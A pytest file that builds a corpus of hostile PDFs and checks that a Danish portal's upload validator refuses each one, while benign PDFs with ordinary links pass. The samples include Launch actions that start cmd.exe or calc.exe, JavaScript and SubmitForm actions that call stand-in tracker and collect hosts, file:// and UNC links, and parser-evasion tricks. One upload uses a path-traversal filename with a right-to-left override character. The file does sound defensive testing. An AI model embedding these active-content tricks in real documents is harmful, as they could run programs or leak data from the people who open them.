"""Hostile PDFs, each built here with pypdf: every kind of active content is refused with its
own Danish reason wherever it sits in the object graph, while plain files and links clicked in
the text pass. Some go through the real upload route, which stores nothing and logs the
refusal in the audit log."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from portal import audit
from portal.applications import uploads
from portal.applications.uploads import UploadRejected, inspect_pdf
from portal.models import Attachment, AuditEvent, Role
from tests.conftest import csrf_token, login
from tests.portal.helpers import complete_application, open_call

LIMIT = 10 * 1024 * 1024
UNC_PATH = "\\\\server\\share\\x.pdf"

# A phrase of the Danish reason for each refusal code.
REASON = {
    "javascript": "Filen indeholder JavaScript",
    "launch": "kan starte andre programmer",
    "uri": "åbner en internetadresse (/URI) andre steder fra end et link i teksten",
    "link_target": "et link til en fil, et netværksdrev eller en anden adresse",
    "submit_form": "kan sende data til en internetadresse (/SubmitForm)",
    "import_data": "henter data fra en anden fil (/ImportData)",
    "remote_goto": "åbner en anden fil, fx på et netværksdrev (/GoToR)",
    "embedded_goto": "åbner en anden eller en indlejret PDF-fil (/GoToE)",
    "embedded_files": "Filen indeholder andre filer",
    "xfa": "dynamisk XFA-formular (/XFA)",
    "rich_media": "interaktivt indhold som Flash eller 3D-modeller (/RichMedia)",
    "media": "lyd eller video",
    "external_file": "henter indhold fra en anden fil eller en internetadresse",
    "auto_action": "handlinger, der kører af sig selv",
    "unreadable": "Filen kan ikke læses som PDF",
    "encrypted": "Filen er krypteret",
}


@pytest.fixture()
def ctx(app: Flask) -> Iterator[None]:
    with app.test_request_context():
        yield


# --- building blocks -----------------------------------------------------------------------


def _value(value: object) -> PdfObject:
    if isinstance(value, PdfObject):
        return value
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, str) and value.startswith("/"):
        return NameObject(value)
    if isinstance(value, str):
        return TextStringObject(value)
    if isinstance(value, list):
        return ArrayObject([_value(item) for item in value])
    raise TypeError(value)


def _dict(**entries: object) -> DictionaryObject:
    """A dictionary: `S="/URI"` is the name entry /S /URI, other strings are text strings,
    ints numbers and lists arrays."""
    return DictionaryObject({NameObject(f"/{k}"): _value(v) for k, v in entries.items()})


def _action(kind: str, **entries: object) -> DictionaryObject:
    return _dict(Type="/Action", S=kind, **entries)


def _annotation(subtype: str, **entries: object) -> DictionaryObject:
    return _dict(Type="/Annot", Subtype=subtype, Rect=[50, 700, 250, 720], **entries)


def _writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


def _ref(writer: PdfWriter, obj: PdfObject) -> IndirectObject:
    return writer._add_object(obj)


def _annotate(writer: PdfWriter, annotation: DictionaryObject, page: int = 0) -> IndirectObject:
    ref = _ref(writer, annotation)
    target = writer.pages[page]
    annots = target.get("/Annots")
    if annots is None:
        target[NameObject("/Annots")] = ArrayObject([ref])
    else:
        annots.append(ref)
    return ref


def _outline(writer: PdfWriter, *items: DictionaryObject) -> None:
    outlines = _dict(Type="/Outlines", Count=len(items))
    outlines_ref = _ref(writer, outlines)
    refs = [_ref(writer, item) for item in items]
    for index, item in enumerate(items):
        item[NameObject("/Parent")] = outlines_ref
        if index:
            item[NameObject("/Prev")] = refs[index - 1]
        if index < len(refs) - 1:
            item[NameObject("/Next")] = refs[index + 1]
    outlines[NameObject("/First")] = refs[0]
    outlines[NameObject("/Last")] = refs[-1]
    writer.root_object[NameObject("/Outlines")] = outlines_ref


def _page_ref(writer: PdfWriter, page: int = 0) -> IndirectObject:
    ref = writer.pages[page].indirect_reference
    assert ref is not None
    return ref


def _goto(writer: PdfWriter, page: int = 0, **entries: object) -> DictionaryObject:
    return _action("/GoTo", D=[_page_ref(writer, page), "/Fit"], **entries)


def _stream(data: bytes, **entries: object) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update(_dict(**entries))
    return stream


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _raw_pdf(catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """A hand-written PDF with a correct xref table, for byte-level tricks PdfWriter will not
    write (duplicate keys, escaped names, nesting deeper than its own recursion)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


# --- the corpus ----------------------------------------------------------------------------


def uri_open_action() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/URI", URI="https://tracker.example.com/opened?id=42"
    )
    return _bytes(writer)


def uri_in_catalog_additional_action() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/AA")] = _dict(
        WC=_action("/URI", URI="https://tracker.example.com/closed")
    )
    return _bytes(writer)


def uri_on_mouse_over_link() -> bytes:
    """The link's /A is harmless; its /AA fires a URI when the pointer enters the area."""
    writer = _writer()
    _annotate(
        writer,
        _annotation(
            "/Link",
            A=_goto(writer),
            AA=_dict(E=_action("/URI", URI="https://tracker.example.com/hover")),
        ),
    )
    return _bytes(writer)


def uri_in_bookmark() -> bytes:
    writer = _writer()
    _outline(writer, _dict(Title="Læs mere", A=_action("/URI", URI="https://example.com/")))
    return _bytes(writer)


def uri_shared_by_link_and_open_action() -> bytes:
    """One URI action object behind a link and the open action: the link may not vouch for it."""
    writer = _writer()
    shared = _ref(writer, _action("/URI", URI="https://tracker.example.com/shared"))
    _annotate(writer, _annotation("/Link", A=shared))
    writer.root_object[NameObject("/OpenAction")] = shared
    return _bytes(writer)


def link_to_network_share() -> bytes:
    writer = _writer()
    _annotate(writer, _annotation("/Link", A=_action("/URI", URI=UNC_PATH)))
    return _bytes(writer)


def link_to_local_file() -> bytes:
    writer = _writer()
    uri = " FILE:///C:/Windows/System32/calc.exe"
    _annotate(writer, _annotation("/Link", A=_action("/URI", URI=uri)))
    return _bytes(writer)


def submit_form_button() -> bytes:
    writer = _writer()
    target = _dict(FS="/URL", F="https://collect.example.com/form")
    button = _annotation(
        "/Widget", FT="/Btn", Ff=65536, T="Send", A=_action("/SubmitForm", F=target)
    )
    ref = _annotate(writer, button)
    writer.root_object[NameObject("/AcroForm")] = _dict(Fields=ArrayObject([ref]))
    return _bytes(writer)


def remote_goto_to_network_share() -> bytes:
    writer = _writer()
    _annotate(writer, _annotation("/Link", A=_action("/GoToR", F=UNC_PATH, D=[0, "/Fit"])))
    return _bytes(writer)


def import_data_on_open() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action("/ImportData", F="data.fdf")
    return _bytes(writer)


def embedded_goto_on_open() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/GoToE", T=_dict(R="/C", N="bilag"), D=[0, "/Fit"]
    )
    return _bytes(writer)


def rich_media_annotation() -> bytes:
    writer = _writer()
    content = _dict(Assets=_dict(Names=["film.swf", _dict(Type="/Filespec", F="film.swf")]))
    _annotate(writer, _annotation("/RichMedia", RichMediaContent=content))
    return _bytes(writer)


def three_d_annotation() -> bytes:
    writer = _writer()
    model = _ref(writer, _stream(b"U3D", Type="/3D", Subtype="/U3D"))
    _annotate(writer, _annotation("/3D", **{"3DD": model}))
    return _bytes(writer)


def launch_in_bookmark() -> bytes:
    writer = _writer()
    launch = _action("/Launch", F="cmd.exe", Win=_dict(F="cmd.exe", P="/c calc"))
    _outline(
        writer,
        _dict(Title="Indhold", Dest=[_page_ref(writer), "/Fit"]),
        _dict(Title="Start", A=launch),
    )
    return _bytes(writer)


def javascript_in_page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = _dict(
        O=_action("/JavaScript", JS="app.launchURL('https://tracker.example.com/');")
    )
    return _bytes(writer)


def embedded_files_name_tree() -> bytes:
    writer = _writer()
    spec = _dict(
        Type="/Filespec",
        F="makro.xlsm",
        EF=_dict(F=_ref(writer, _stream(b"PK\x03\x04", Type="/EmbeddedFile"))),
    )
    writer.root_object[NameObject("/Names")] = _dict(
        EmbeddedFiles=_dict(Names=["makro.xlsm", _ref(writer, spec)])
    )
    return _bytes(writer)


def xfa_form() -> bytes:
    writer = _writer()
    xdp = _ref(writer, _stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'))
    writer.root_object[NameObject("/AcroForm")] = _dict(Fields=[], XFA=xdp)
    return _bytes(writer)


def sound_on_open() -> bytes:
    writer = _writer()
    sound = _ref(writer, _stream(b"\x00" * 16, Type="/Sound", R=8000))
    writer.root_object[NameObject("/OpenAction")] = _action("/Sound", Sound=sound)
    return _bytes(writer)


def movie_annotation() -> bytes:
    writer = _writer()
    _annotate(writer, _annotation("/Movie", Movie=_dict(F="https://example.com/film.mov")))
    return _bytes(writer)


def image_from_the_internet() -> bytes:
    """An image XObject whose data is fetched from a URL when the page is drawn."""
    writer = _writer()
    image = _stream(
        b"",
        Type="/XObject",
        Subtype="/Image",
        Width=1,
        Height=1,
        ColorSpace="/DeviceGray",
        BitsPerComponent=8,
        F=_dict(FS="/URL", F="https://tracker.example.com/pixel"),
    )
    writer.pages[0][NameObject("/Resources")] = _dict(XObject=_dict(Im0=_ref(writer, image)))
    return _bytes(writer)


def harmless_action_on_document_close() -> bytes:
    """Even a harmless action refuses, when it runs by itself (/AA)."""
    writer = _writer(pages=2)
    writer.root_object[NameObject("/AA")] = _dict(WC=_goto(writer, page=1))
    return _bytes(writer)


def next_chain_from_link_to_launch() -> bytes:
    """A click on a link runs GoTo, then two more actions via /Next; the last starts a program."""
    writer = _writer()
    last = _goto(writer, Next=_action("/Launch", F="calc.exe"))
    first = _goto(writer, Next=[_goto(writer), last])
    _annotate(writer, _annotation("/Link", A=first))
    return _bytes(writer)


def next_chain_from_link_to_uri() -> bytes:
    """Only the link's own /A may open an address; a URI further down its /Next chain may not."""
    writer = _writer()
    chained = _action("/URI", URI="https://tracker.example.com/second")
    link_action = _action("/URI", URI="https://example.com/", Next=chained)
    _annotate(writer, _annotation("/Link", A=link_action))
    return _bytes(writer)


def long_indirect_next_chain() -> bytes:
    """3000 actions, each an indirect object, chained by /Next; the last submits the form."""
    count = 3000
    chain = tuple(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (number + 1)
        for number in range(4, 4 + count)
    )
    last = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.com/) >> >>"
    return _raw_pdf(b"/OpenAction 4 0 R", (*chain, last))


def action_through_reference_cycle() -> bytes:
    """Open action A -> B -> [A, C]: the walk must not loop, and must still reach C."""
    writer = _writer()
    first, second = _goto(writer), _goto(writer)
    first_ref, second_ref = _ref(writer, first), _ref(writer, second)
    first[NameObject("/Next")] = second_ref
    uri = _action("/URI", URI="https://tracker.example.com/cycle")
    second[NameObject("/Next")] = ArrayObject([first_ref, _ref(writer, uri)])
    writer.root_object[NameObject("/OpenAction")] = first_ref
    return _bytes(writer)


def object_cycle_hiding_embedded_goto() -> bytes:
    """Two dictionaries pointing at each other through indirect references; one holds GoToE."""
    writer = _writer()
    left, right = _dict(Kind="/Left"), _dict(Kind="/Right")
    left_ref, right_ref = _ref(writer, left), _ref(writer, right)
    left[NameObject("/Other")] = right_ref
    right[NameObject("/Other")] = left_ref
    right[NameObject("/Then")] = _action("/GoToE", T=_dict(R="/C", N="x"))
    writer.root_object[NameObject("/PieceInfo")] = left_ref
    return _bytes(writer)


def escaped_name_submit_form() -> bytes:
    return _raw_pdf(b"/OpenAction << /S /Sub#6DitForm /F (https://collect.example.com/) >>")


def duplicate_action_type() -> bytes:
    """pypdf keeps the first /S (GoTo); a viewer may keep the last (Launch)."""
    return _raw_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /Launch /F (calc.exe) >>")


def deeply_nested_dictionaries() -> bytes:
    """A Launch action under 2000 levels of direct dictionaries, deeper than pypdf can parse."""
    depth = 2000
    action = b"<< /S /Launch /F (calc.exe) >>"
    return _raw_pdf(b"/OpenAction " + b"<< /Next " * depth + action + b" >>" * depth)


def deeply_nested_arrays() -> bytes:
    depth = 5000
    return _raw_pdf(b"/Deep " + b"[" * depth + b"<< /S /Launch /F (calc.exe) >>" + b"]" * depth)


def encrypted_with_javascript() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert(1)")
    writer.encrypt(user_password="", owner_password="hemmelig")
    return _bytes(writer)


CORPUS: dict[str, tuple[Callable[[], bytes], str]] = {
    builder.__name__: (builder, code)
    for builder, code in (
        (uri_open_action, "uri"),
        (uri_in_catalog_additional_action, "uri"),
        (uri_on_mouse_over_link, "uri"),
        (uri_in_bookmark, "uri"),
        (uri_shared_by_link_and_open_action, "uri"),
        (link_to_network_share, "link_target"),
        (link_to_local_file, "link_target"),
        (submit_form_button, "submit_form"),
        (remote_goto_to_network_share, "remote_goto"),
        (import_data_on_open, "import_data"),
        (embedded_goto_on_open, "embedded_goto"),
        (rich_media_annotation, "rich_media"),
        (three_d_annotation, "rich_media"),
        (launch_in_bookmark, "launch"),
        (javascript_in_page_additional_action, "javascript"),
        (embedded_files_name_tree, "embedded_files"),
        (xfa_form, "xfa"),
        (sound_on_open, "media"),
        (movie_annotation, "media"),
        (image_from_the_internet, "external_file"),
        (harmless_action_on_document_close, "auto_action"),
        (next_chain_from_link_to_launch, "launch"),
        (next_chain_from_link_to_uri, "uri"),
        (long_indirect_next_chain, "submit_form"),
        (action_through_reference_cycle, "uri"),
        (object_cycle_hiding_embedded_goto, "embedded_goto"),
        (escaped_name_submit_form, "submit_form"),
        (duplicate_action_type, "unreadable"),
        (deeply_nested_dictionaries, "unreadable"),
        (deeply_nested_arrays, "unreadable"),
        (encrypted_with_javascript, "encrypted"),
    )
}


def _refusal(data: bytes, filename: str = "bilag.pdf") -> UploadRejected:
    with pytest.raises(UploadRejected) as info:
        inspect_pdf(data, filename, LIMIT)
    return info.value


@pytest.mark.parametrize("name", list(CORPUS))
def test_hostile_pdf_is_refused_with_its_reason(ctx: None, name: str) -> None:
    build, code = CORPUS[name]
    refusal = _refusal(build())
    assert (refusal.code, REASON[code] in refusal.message) == (code, True), refusal.message


def test_corpus_covers_every_refused_kind() -> None:
    assert {kind.code for kind in uploads.ACTIVE_CONTENT} <= {code for _, code in CORPUS.values()}


def test_every_refused_kind_has_its_own_danish_reason(ctx: None) -> None:
    messages = {kind.code: uploads._rejection(kind.code).message for kind in uploads.ACTIVE_CONTENT}
    assert len(set(messages.values())) == len(messages)
    for code, message in messages.items():
        assert REASON[code] in message
        assert "tilladt" in message


def test_shallow_nesting_is_read_and_judged(ctx: None) -> None:
    """The deep-nesting refusal is about depth: the same action 50 levels down is found."""
    depth = 50
    action = b"<< /S /Launch /F (calc.exe) >>"
    data = _raw_pdf(b"/OpenAction " + b"<< /Next " * depth + action + b" >>" * depth)
    assert _refusal(data).code == "launch"


# --- files that pass -----------------------------------------------------------------------


def benign_multi_page() -> bytes:
    """What a word processor exports: pages, bookmarks, internal links, web and mail links,
    an open action that shows page one, metadata and an empty /AA."""
    writer = _writer(pages=3)
    writer.add_metadata({"/Title": "Organisationsdiagram", "/Author": "HK"})
    _outline(
        writer,
        _dict(Title="Forside", Dest=[_page_ref(writer, 0), "/Fit"]),
        _dict(Title="Bilag", A=_goto(writer, page=2)),
    )
    _annotate(writer, _annotation("/Link", Dest=[_page_ref(writer, 2), "/XYZ", 0, 842, 0]))
    _annotate(writer, _annotation("/Link", A=_action("/URI", URI="https://www.star.dk/")), 1)
    _annotate(writer, _annotation("/Link", A=_action("/URI", URI="mailto:post@hk.dk")), 1)
    _annotate(writer, _annotation("/Link", A=_goto(writer, page=0), AA=_dict()), 2)
    writer.root_object[NameObject("/OpenAction")] = _goto(writer, page=0)
    return _bytes(writer)


def test_benign_multi_page_pdf_passes(ctx: None) -> None:
    data = benign_multi_page()
    info = inspect_pdf(data, "Organisationsdiagram.pdf", LIMIT)
    assert (info.pages, info.size_bytes) == (3, len(data))


@pytest.mark.parametrize(
    "uri", ["https://www.star.dk/", "http://example.com/side", "mailto:post@hk.dk"]
)
def test_link_annotation_to_web_or_mail_address_passes(ctx: None, uri: str) -> None:
    writer = _writer()
    _annotate(writer, _annotation("/Link", A=_action("/URI", URI=uri)))
    assert inspect_pdf(_bytes(writer), "link.pdf", LIMIT).pages == 1


@pytest.mark.parametrize("uri", [UNC_PATH, "file:///etc/passwd", "javascript:alert(1)", "smb://x"])
def test_link_annotation_to_other_address_is_refused(ctx: None, uri: str) -> None:
    writer = _writer()
    _annotate(writer, _annotation("/Link", A=_action("/URI", URI=uri)))
    assert _refusal(_bytes(writer)).code == "link_target"


def test_same_uri_as_a_widget_button_is_refused(ctx: None) -> None:
    """Only link annotations may carry a URI: a form button with the same action may not."""
    writer = _writer()
    _annotate(writer, _annotation("/Widget", FT="/Btn", A=_action("/URI", URI="https://x.dk/")))
    assert _refusal(_bytes(writer)).code == "uri"


# --- through the upload route --------------------------------------------------------------


@pytest.fixture()
def call(db: Session):
    return open_call(db)


@pytest.fixture()
def drafter(make_user):
    return make_user(Role.DRAFTER, "HK")


def _upload(client: FlaskClient, call, application, data: bytes, filename: str) -> str:
    page = client.get(f"/ansoegning/runde/{call.id}").get_data(as_text=True)
    response = client.post(
        f"/ansoegning/{application.id}/bilag",
        data={
            "csrf_token": csrf_token(page),
            "criterion": "",
            "file": (io.BytesIO(data), filename),
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    # A refusal is shown at the file field on the page itself (400); an accepted file
    # redirects back to the page (200 after the redirect).
    assert response.status_code in (200, 400)
    return response.get_data(as_text=True)


def _stored_files(app: Flask) -> list[Path]:
    folder = Path(app.config["UPLOAD_DIR"])
    return list(folder.rglob("*")) if folder.exists() else []


def _refused_events(db: Session) -> list[AuditEvent]:
    db.expire_all()
    query = select(AuditEvent).where(AuditEvent.action == "attachment.refused")
    return list(db.scalars(query.order_by(AuditEvent.id)))


@pytest.mark.parametrize(
    "name",
    [
        "uri_open_action",
        "remote_goto_to_network_share",
        "xfa_form",
        "action_through_reference_cycle",
        "deeply_nested_dictionaries",
    ],
)
def test_upload_route_refuses_hostile_pdf_and_logs_it(
    client, db, app, call, drafter, name: str
) -> None:
    build, code = CORPUS[name]
    application = complete_application(db, call, drafter)
    login(client, drafter.email)
    page = _upload(client, call, application, build(), "../../Bilag\u202e 1.pdf")
    with app.test_request_context():
        expected = _refusal(build()).message
    assert REASON[code] in expected
    assert str(escape(expected)) in page
    assert "Bilaget er tilføjet." not in page
    assert db.scalar(select(func.count(Attachment.id))) == 0
    assert _stored_files(app) == []
    [event] = _refused_events(db)
    assert (event.actor_id, event.object_type, event.object_id) == (
        drafter.id,
        "Application",
        str(application.id),
    )
    assert event.data == {"reason": code, "filename": "Bilag 1.pdf"}
    assert audit.verify(db).ok


def test_upload_route_logs_refusal_before_parsing_too(client, db, app, call, drafter) -> None:
    application = complete_application(db, call, drafter)
    login(client, drafter.email)
    page = _upload(client, call, application, benign_multi_page(), "bilag.docx")
    assert "skal slutte på .pdf" in page
    assert [(e.data["reason"], e.data["filename"]) for e in _refused_events(db)] == [
        ("wrong_extension", "bilag.docx")
    ]
    assert _stored_files(app) == []


def test_upload_route_keeps_benign_pdf_with_links(client, db, app, call, drafter) -> None:
    application = complete_application(db, call, drafter)
    login(client, drafter.email)
    page = _upload(client, call, application, benign_multi_page(), "Organisationsdiagram.pdf")
    assert "Bilaget er tilføjet." in page
    attachment = db.scalar(select(Attachment))
    assert (attachment.pages, attachment.filename) == (3, "Organisationsdiagram.pdf")
    assert [p.name for p in _stored_files(app)] == [attachment.stored_name]
    assert _refused_events(db) == []


def test_upload_page_says_what_is_refused(client, db, call, drafter) -> None:
    complete_application(db, call, drafter)
    login(client, drafter.email)
    page = client.get(f"/ansoegning/runde/{call.id}").get_data(as_text=True)
    for phrase in (
        "JavaScript",
        "XFA-formularer",
        "vedhæftede eller indlejrede filer",
        "lyd, video, Flash eller 3D",
        "starter programmer, sender eller henter data, åbner andre filer",
        "kører af sig selv",
        "åbner en internetadresse andre steder fra end et link i teksten",
        "Almindelige links i teksten til internet- og mailadresser er tilladt.",
    ):
        assert str(escape(phrase)) in page, phrase
